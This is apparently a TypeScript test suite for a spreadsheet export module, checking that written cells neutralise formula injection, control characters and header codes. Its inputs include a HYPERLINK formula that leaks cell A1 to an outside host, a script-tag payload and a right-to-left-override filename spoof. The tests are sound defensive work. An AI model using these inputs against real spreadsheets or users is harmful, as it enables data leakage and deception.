import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { packOf, partOf, sheetOf, tableOf, textsOf } from './packs.ts';

async function written(text: string): Promise<string | undefined> {
  const tables = [tableOf({ columns: ['Ref', 'Update'], rows: [[{ text: '1.1' }, { text }]] })];
  return textsOf(await sheetOf(packOf({ tables }), 1)).at(-1)?.[1];
}

describe('text from a tracker', () => {
  it.each([
    ['=HYPERLINK("http://example.org/?"&A1,"Click")', null],
    ['+44 20 7946 0000', null],
    ['-1', null],
    ['@SUM(1)', null],
    ['\tstarts with a tab', null],
    ['<script>alert(1)</script> & "quotes" \'too\'', null],
    ['literally _x0041_ and _x000D_', null],
    ['line\r\nbreak', 'line\nbreak'],
    ['\rreturn', '\nreturn'],
    ['\u001b[31mred\u001b[0m', '\ufffd[31mred\ufffd[0m'],
    ['Plan \u202excod.exe', 'Plan \ufffdxcod.exe'],
    ['half \ud83d a pair, \ufffe, \u0000', 'half \ufffd a pair, \ufffd, \ufffd'],
    ['whole 😀 pair', null],
  ])('%j', async (text, shown) => {
    expect(await written(text)).toBe(shown ?? text);
  });

  it('comes back as it was, whatever is safe in it', async () => {
    const safe = fc.stringMatching(/^[\p{L}\p{N}=+@_x&<>"' -]{1,80}$/u).filter((text) => text.trim() !== '');
    await fc.assert(
      fc.asyncProperty(safe, async (text) => {
        expect(await written(text)).toBe(text);
      }),
      { numRuns: 30 },
    );
  });

  it('makes a file that can be read, whatever it holds', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 60 }), async (text) => {
        const tables = [
          tableOf({
            title: text,
            marking: text,
            columns: [text, text],
            rows: [[{ text }]],
            notes: [text],
            source: text,
          }),
        ];
        await sheetOf(packOf({ tables, notes: [text] }), 1);
      }),
      { numRuns: 30 },
    );
  });

  it('that looks like a formula keeps a quote before it, and nothing else does', async () => {
    const rows = [[{ text: '=1+1' }, { text: '1+1' }]];
    const pack = packOf({ tables: [tableOf({ columns: ['Ref', 'Update'], rows })] });
    const styles = await partOf(pack, 'xl/styles.xml');
    const looks = /<cellXfs.*<\/cellXfs>/s.exec(styles)?.[0].match(/<xf /g) ?? [];
    const quoted = styles.split(/(?=<xf )/).findIndex((xf) => xf.includes('quotePrefix="1"'));
    const all = styles.slice(0, styles.indexOf('<cellXfs')).split(/(?=<xf )/).length;
    const [ref, update] = Array.from(
      (await partOf(pack, 'xl/worksheets/sheet2.xml')).matchAll(/<c r="[AB]7" s="(\d+)"/g),
      ([, look]) => Number(look),
    );
    expect(looks.length).toBeGreaterThan(1);
    expect(ref).toBe(quoted - all);
    expect(update).not.toBe(ref);
    expect(styles).not.toContain('numFmtId="49"');
  });
});

describe('a marking', () => {
  it('is no code of a page header, and its “&” is printed', async () => {
    const tables = [tableOf({ marking: 'OFFICIAL & "Arial" &P &D' })];
    const sheet = await partOf(packOf({ tables }), 'xl/worksheets/sheet2.xml');
    const header =
      '&amp;C&amp;10&amp;&quot;Arial,Bold&quot;OFFICIAL &amp;&amp; &quot;Arial&quot; &amp;&amp;P &amp;&amp;D';
    expect(sheet).toContain(`<oddHeader>${header}</oddHeader>`);
  });

  it('too long for a page header points to the cell that holds it whole', async () => {
    const marking = Array.from({ length: 40 }, () => 'OFFICIAL & MORE').join('; ');
    const pack = packOf({ tables: [tableOf({ marking })] });
    const header =
      /<oddHeader>(.*?)<\/oddHeader>/.exec(await partOf(pack, 'xl/worksheets/sheet2.xml'))?.[1] ?? '';
    const plain = header.replace(/&amp;/g, '&').replace(/&quot;/g, '"');
    expect(plain.length).toBeLessThanOrEqual(255);
    expect(plain).toMatch(/ and more: see the top of the sheet$/);
    expect(
      textsOf(await sheetOf(pack, 1))
        .flat()
        .join(' '),
    ).toContain(marking);
  });
});
